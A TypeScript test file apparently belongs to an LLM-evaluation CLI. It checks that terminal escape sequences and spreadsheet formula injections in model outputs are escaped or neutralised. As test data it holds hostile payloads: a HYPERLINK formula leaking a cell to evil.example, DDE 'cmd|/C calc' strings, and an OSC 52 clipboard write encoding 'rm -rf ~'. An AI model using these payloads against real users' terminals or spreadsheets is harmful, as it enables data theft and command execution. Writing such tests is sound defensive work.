// Model outputs and vars are hostile text: they must not drive the terminal (ESC/OSC 52, BEL, NUL)
// or a spreadsheet (formula injection) when Assay shows or writes them.
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { escapeControlChars } from '../../src/results/terminal-text.js';
import { safeCsvField } from '../../src/results/sinks/csv-safety.js';
import { runCli, writeFiles } from '../support/cli.js';

const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const config = `
prompts: ['{{ text }}']
providers: [echo]
tests:
  - vars: { text: "clip \\e]52;c;cm0gLXJmIH4=\\a title \\e]0;pwned\\a nul \\0 csi \\x9b31m bell \\a cr \\r over" }
  - vars: { text: '=HYPERLINK("http://evil.example/?leak="&A1,"click")' }
  - vars: { text: '+1+cmd|/C calc!A0' }
  - vars: { text: '-2+3' }
  - vars: { text: '@SUM(1+1)*cmd|/C calc!A0' }
  - vars: { text: "\\t=1+1" }
  - vars: { text: "\\r=1+1" }
  - vars: { text: '-0.5' }
`;

describe('untrusted text on the console', () => {
  it('control characters from outputs and vars are shown as visible escapes, never sent raw', async () => {
    const dir = writeFiles({ 'promptfooconfig.yaml': config });
    const run = await runCli(['eval'], { cwd: dir });
    expect(run.code).toBe(0);
    for (const stream of [run.stdout, run.stderr]) expect(stream).not.toMatch(RAW_CONTROL);
    expect(run.stdout).toContain('\\e]52;c;cm0gLXJmIH4=\\a');
    expect(run.stdout).toContain('\\e]0;pwned\\a');
  });

  it('CSV: formulas are neutralised as OWASP recommends, NUL/ESC stripped, plain numbers kept', async () => {
    const dir = writeFiles({ 'promptfooconfig.yaml': config });
    const run = await runCli(['eval', '--no-table', '--no-progress-bar', '-o', join(dir, 'out.csv')], { cwd: dir });
    expect(run.code).toBe(0);
    const rows = parseCsv(readFileSync(join(dir, 'out.csv'), 'utf8'), { relax_column_count: true }) as string[][];
    const column = rows.slice(1).map((row) => row[1]!);
    expect(column[0]).not.toMatch(/[\u0000\u001b\u0007\u009b]/);
    expect(column[0]).toContain(']52;c;cm0gLXJmIH4=');
    expect(column.slice(1, 7)).toEqual([
      `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
      `'+1+cmd|/C calc!A0`,
      `'-2+3`,
      `'@SUM(1+1)*cmd|/C calc!A0`,
      `'\t=1+1`,
      `'\r=1+1`,
    ]);
    expect(column[7]).toBe('-0.5');
    expect(readdirSync(dir).filter((name) => name.includes('.tmp'))).toEqual([]);
  });

  it('a config error quoting hostile text is printed without raw control characters', async () => {
    const dir = writeFiles({
      'promptfooconfig.yaml': `prompts: ['hi']\nproviders: ["\\e]0;pwned\\aecho"]\ntests: [{}]\n`,
    });
    const run = await runCli(['eval', '--no-progress-bar'], { cwd: dir });
    expect(run.code).toBe(1);
    expect(run.stderr).not.toMatch(RAW_CONTROL);
  });

  it('a CSV column name with control characters is escaped in the table header and its values still show under it', async () => {
    const dir = writeFiles({
      'promptfooconfig.yaml': `prompts: ['{{ q }}']\nproviders: [echo]\ntests: file://rows.csv\n`,
      'rows.csv': 'q,\u001b]0;HDR\u0007col\nhi,shown-value\n',
    });
    const run = await runCli(['eval', '--no-progress-bar'], { cwd: dir });
    expect(run.code).toBe(0);
    expect(run.stdout).not.toMatch(RAW_CONTROL);
    expect(run.stdout).toContain('\\e]0;HDR\\acol');
    expect(run.stdout).toContain('shown-value');
  });

  it('a load warning quoting a tests file (an assertion file path) is printed without raw control characters', async () => {
    const dir = writeFiles({
      'promptfooconfig.yaml': `prompts: ['{{ q }}']\nproviders: [echo]\ntests: file://tests.yaml\n`,
      'tests.yaml': `- vars: {q: hi}\n  assert: [{type: contains-json, value: "file://\\e]52;c;ZXZpbA==\\a.json"}]\n`,
    });
    const run = await runCli(['eval', '--no-progress-bar', '--no-table'], { cwd: dir });
    expect(run.stderr).toContain('Warning:');
    expect(run.stderr).toContain('\\e]52;c;ZXZpbA==\\a');
    for (const stream of [run.stdout, run.stderr]) expect(stream).not.toMatch(RAW_CONTROL);
  });
});

describe('escapeControlChars', () => {
  it('keeps text, tabs and new lines, and makes every other control and bidi override visible', () => {
    expect(escapeControlChars('plain\ttext\nnext')).toBe('plain\ttext\nnext');
    expect(escapeControlChars('\u001b[2J\u0007\u0000\r\u009b\u202eabc\u0001')).toBe(
      '\\e[2J\\a\\0\\r\\x9b\\u202eabc\\x01',
    );
  });
});

describe('safeCsvField', () => {
  it('quotes and prefixes formula starts, strips controls, leaves ordinary text and numbers alone', () => {
    expect(safeCsvField('=1+1')).toBe(`"'=1+1"`);
    expect(safeCsvField('hello, world')).toBe('"hello, world"');
    expect(safeCsvField('a\u0000b\u001bc')).toBe('abc');
    expect(safeCsvField('+44 20 7946 0000')).toBe(`"'+44 20 7946 0000"`);
    expect(safeCsvField('3.5e-2')).toBe('3.5e-2');
    expect(safeCsvField('answer')).toBe('answer');
  });
});
